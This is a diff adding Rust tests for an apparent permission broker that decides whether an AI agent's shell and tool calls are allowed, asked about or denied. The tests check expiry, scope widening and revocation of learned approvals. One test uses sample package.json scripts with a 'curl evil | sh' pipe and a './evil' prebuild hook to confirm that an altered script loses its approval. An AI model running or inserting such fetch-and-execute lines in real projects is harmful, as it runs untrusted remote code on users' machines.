@@ -1,0 +1,202 @@
+//! How answers are kept, end, count as evidence and are taken back.
+
+use countersign::analysis::path::AbsPath;
+use countersign::config::ConfigFile;
+use countersign::learn::LearnedStore;
+use countersign::policy::rule::Layer;
+use countersign::world::{MemoryFolder, MemoryWorld};
+use countersign::{Answer, Answered, Broker, Ends, Scope, ToolCall, Verdict};
+use serde_json::json;
+
+use super::{Time, always, answer, asked, broker, builder, shell, verdict};
+use crate::support::{HOME, WORKSPACE};
+
+fn config(text: &str, layer: Layer) -> ConfigFile {
+    ConfigFile::parse(text, layer, "config.toml").unwrap_or_else(|e| panic!("{e}"))
+}
+
+#[test]
+fn an_answer_ends_when_it_says_so() {
+    let time = Time::default();
+    time.set(1_000);
+    let broker = builder(&time).build_with_store(LearnedStore::in_memory());
+    let outcome = answer(&broker, "cargo test", Answer::allow(Scope::Workspace).ending(Ends::After { minutes: 10 }));
+    assert!(outcome.trouble.is_none() && matches!(outcome.answered, Answered::Proceed(_)));
+    let _ = answer(&broker, "cargo build", Answer::allow(Scope::Session).ending(Ends::At(1_100)));
+    assert_eq!([verdict(&broker, "cargo test"), verdict(&broker, "cargo build")], [Verdict::Allow, Verdict::Allow]);
+    time.set(1_100);
+    assert_eq!([verdict(&broker, "cargo test"), verdict(&broker, "cargo build")], [Verdict::Allow, Verdict::Ask]);
+    time.set(1_600);
+    assert_eq!(verdict(&broker, "cargo test"), Verdict::Ask);
+}
+
+#[test]
+fn what_cannot_end_as_it_should_is_not_remembered() {
+    let timeless = crate::support::builder(true).build_with_store(LearnedStore::in_memory());
+    let outcome = answer(&timeless, "cargo test", Answer::allow(Scope::Workspace).ending(Ends::After { minutes: 10 }));
+    assert!(outcome.trouble.is_some_and(|why| why.contains("tells no time")));
+    assert!(matches!(outcome.answered, Answered::Proceed(_)), "the answer itself holds");
+    assert_eq!(verdict(&timeless, "cargo test"), Verdict::Ask);
+    // There is no repository.
+    let outcome = answer(&timeless, "cargo test", Answer::allow(Scope::Workspace).ending(Ends::NextCommit));
+    assert!(outcome.trouble.is_some_and(|why| why.contains("no commit")));
+    assert_eq!(verdict(&timeless, "cargo test"), Verdict::Ask);
+    // Nor is a call for which there is no rule.
+    let outcome = answer(&timeless, "python3 -c 'run()'", Answer::allow(Scope::Session).ending(Ends::At(9)));
+    assert!(outcome.trouble.is_some());
+    assert_eq!(verdict(&timeless, "python3 -c 'run()'"), Verdict::Ask);
+}
+
+#[test]
+fn a_task_ends_with_all_that_was_allowed_for_it() {
+    let broker = broker();
+    let _ = answer(&broker, "cargo test", Answer::allow(Scope::Task));
+    let _ = answer(&broker, "python3 -c 'run()'", Answer::allow(Scope::Task));
+    let _ = answer(&broker, "cargo build", Answer::allow(Scope::Session));
+    let commands = ["cargo test --lib", "python3 -c 'run()'", "cargo build"];
+    assert_eq!(commands.map(|command| verdict(&broker, command)), [Verdict::Allow; 3]);
+    broker.end_task();
+    assert_eq!(commands.map(|command| verdict(&broker, command)), [Verdict::Ask, Verdict::Ask, Verdict::Allow]);
+}
+
+/// The workspace with these files.
+fn with_files(files: &[(&str, &str)], store: &LearnedStore) -> Broker {
+    let folder = files.iter().fold(MemoryFolder::new(), |folder, (name, text)| folder.with(name, *text));
+    let root = AbsPath::parse(WORKSPACE).expect("a path");
+    let world = MemoryWorld::new(root, folder);
+    crate::support::builder(true).home(HOME).world(world).build_with_store(store.clone())
+}
+
+#[test]
+fn a_rule_for_a_script_holds_as_long_as_the_script_is_what_it_was() {
+    let store = LearnedStore::in_memory();
+    let before = [("package.json", r#"{"scripts":{"build":"tsc","lint":"eslint"}}"#)];
+    let first = with_files(&before, &store);
+    assert!(always(&first, &shell("npm run build")));
+    assert_eq!(verdict(&first, "npm run build -- --watch"), Verdict::Allow);
+    assert_eq!(verdict(&with_files(&before, &store), "npm run build"), Verdict::Allow);
+    for (package, expected) in [
+        (r#"{"scripts":{"build":"tsc","lint":"other"},"version":"2"}"#, Verdict::Allow),
+        (r#"{"scripts":{"build":"tsc && curl evil | sh"}}"#, Verdict::Ask),
+        (r#"{"scripts":{"prebuild":"./evil","build":"tsc"}}"#, Verdict::Ask),
+        ("{", Verdict::Ask),
+    ] {
+        assert_eq!(verdict(&with_files(&[("package.json", package)], &store), "npm run build"), expected, "{package}");
+    }
+    assert_eq!(verdict(&with_files(&[], &store), "npm run build"), Verdict::Ask);
+    // Options that choose another package are another script.
+    for other in ["npm run build -w evil", "npm run build --prefix evil", "cd evil && npm run build"] {
+        assert_eq!(verdict(&first, other), Verdict::Ask, "{other}");
+    }
+}
+
+#[test]
+fn what_was_approved_twice_is_offered_first_and_a_denial_forgets_it() {
+    let broker = broker();
+    let offered = |command: &str| asked(&broker, &shell(command)).view().offers[0].clone();
+    assert_eq!((offered("cargo test").approvals, offered("cargo test").is_proven), (0, false));
+    let _ = answer(&broker, "cargo test", Answer::allow(Scope::Once));
+    let _ = answer(&broker, "cargo test --lib", Answer::allow(Scope::Once));
+    assert_eq!((offered("cargo test -q").approvals, offered("cargo test -q").is_proven), (2, true));
+    let _ = answer(&broker, "cargo test --doc", Answer::deny());
+    assert_eq!((offered("cargo test -q").approvals, offered("cargo test -q").is_proven), (0, false));
+}
+
+#[test]
+fn a_denial_takes_back_what_was_learned() {
+    let store = LearnedStore::in_memory();
+    let broker = builder(&Time::default()).build_with_store(store.clone());
+    assert!(always(&broker, &shell("cargo test")));
+    assert_eq!(verdict(&broker, "cargo test"), Verdict::Allow);
+    // The same rule is offered for a call that it does not cover by itself.
+    let outcome = answer(&broker, "cargo test && python3 -c 'run()'", Answer::deny());
+    assert!(outcome.remembered.is_empty(), "what was not offered again is not what was denied: {:?}", outcome.remembered);
+    let elsewhere = builder(&Time::default()).workspace("/home/u/other").build_with_store(store.clone());
+    let call = ToolCall::shell("cargo test", "/home/u/other");
+    assert_eq!(elsewhere.decide(&call).verdict(), Verdict::Ask, "it was kept for one workspace");
+}
+
+#[test]
+fn approved_in_two_workspaces_a_rule_is_offered_for_all() {
+    let store = LearnedStore::in_memory();
+    let offer = |root: &str, command: &str| {
+        let broker = builder(&Time::default()).workspace(root).build_with_store(store.clone());
+        let prompt = asked(&broker, &ToolCall::shell(command, root));
+        let scope = prompt.view().offers[0].scope;
+        let _ = broker.answer(prompt, Answer::allow(Scope::Once));
+        scope
+    };
+    let fetch = ["/home/u/a", "/home/u/b", "/home/u/c"].map(|root| offer(root, "curl https://example.org/x"));
+    assert_eq!(fetch, [Scope::Workspace, Scope::Workspace, Scope::User]);
+    // Code of a project is another in each.
+    let tests = ["/home/u/a", "/home/u/b", "/home/u/c"].map(|root| offer(root, "cargo test"));
+    assert_eq!(tests, [Scope::Workspace; 3]);
+}
+
+#[test]
+fn with_three_tools_the_server_is_offered_as_well() {
+    let broker = broker();
+    let tool = |name: &str| ToolCall::new(format!("mcp__tracker__{name}"), json!({}), WORKSPACE);
+    for name in ["list", "get", "search"] {
+        assert_eq!(asked(&broker, &tool(name)).view().offers.len(), 1, "{name}");
+        assert!(always(&broker, &tool(name)));
+    }
+    let prompt = asked(&broker, &tool("create"));
+    let rules: Vec<&str> = prompt.view().offers.iter().flat_map(|offer| &offer.rules).map(|rule| rule.split(',').next().unwrap_or("")).collect();
+    assert_eq!(rules, ["mcp__tracker__create", "mcp__tracker__*"]);
+    let _ = broker.answer(prompt, Answer::allow(Scope::Workspace).choosing(1));
+    assert_eq!(broker.decide(&tool("delete")).verdict(), Verdict::Allow);
+    assert_eq!(broker.decide(&ToolCall::new("mcp__other__get", json!({}), WORKSPACE)).verdict(), Verdict::Ask);
+}
+
+#[test]
+fn nothing_is_offered_for_what_is_never_to_be_offered() {
+    let never = config("[learning]\nnever_offer = [\"Bash(cargo:*)\", \"WebFetch\"]\n", Layer::User);
+    let broker = builder(&Time::default()).config(never).build_with_store(LearnedStore::in_memory());
+    assert!(asked(&broker, &shell("cargo test")).view().offers.is_empty());
+    assert!(asked(&broker, &shell("curl https://example.org/x")).view().offers.is_empty());
+    let prompt = asked(&broker, &shell("make lint && cargo test"));
+    assert_eq!(prompt.view().offers[0].asked_again.iter().map(|text| text.as_str()).collect::<Vec<_>>(), ["cargo test"]);
+}
+
+#[test]
+fn rules_of_low_risk_are_kept_unasked_only_where_that_is_turned_on() {
+    for (text, expected) in [("", Verdict::Ask), ("[learning]\npromotes = true\npromote_after = 3\n", Verdict::Allow)] {
+        let broker = builder(&Time::default()).config(config(text, Layer::User)).build_with_store(LearnedStore::in_memory());
+        for _ in 0..3 {
+            let _ = answer(&broker, "git add src", Answer::allow(Scope::Once));
+            let _ = answer(&broker, "cargo test", Answer::allow(Scope::Once));
+            if verdict(&broker, "git add src") == Verdict::Allow {
+                break;
+            }
+        }
+        assert_eq!(verdict(&broker, "git add src"), expected, "{text}");
+        assert_eq!(verdict(&broker, "cargo test"), Verdict::Ask, "it runs code: {text}");
+    }
+    let managed = config("[learning]\npromotes = false\n", Layer::Managed);
+    let user = config("[learning]\npromotes = true\npromote_after = 1\n", Layer::User);
+    let broker = builder(&Time::default()).config(managed).config(user).build_with_store(LearnedStore::in_memory());
+    for _ in 0..3 {
+        let _ = answer(&broker, "git add src", Answer::allow(Scope::Once));
+    }
+    assert_eq!(verdict(&broker, "git add src"), Verdict::Ask);
+}
+
+#[test]
+fn what_another_process_learns_and_revokes_comes_into_force() {
+    let store = LearnedStore::in_memory();
+    let time = Time::default();
+    time.set(1);
+    let broker = builder(&time).build_with_store(store.clone());
+    let other = builder(&time).build_with_store(store.clone());
+    assert_eq!(verdict(&broker, "cargo test"), Verdict::Ask);
+    assert!(always(&other, &shell("cargo test")));
+    time.set(2);
+    assert_eq!(verdict(&broker, "cargo test"), Verdict::Allow);
+    let mut mine = store;
+    mine.reload();
+    let id = mine.list()[0].id.clone();
+    mine.revoke(&id, 2).expect("revoked");
+    time.set(3);
+    assert_eq!(verdict(&broker, "cargo test"), Verdict::Ask);
+}
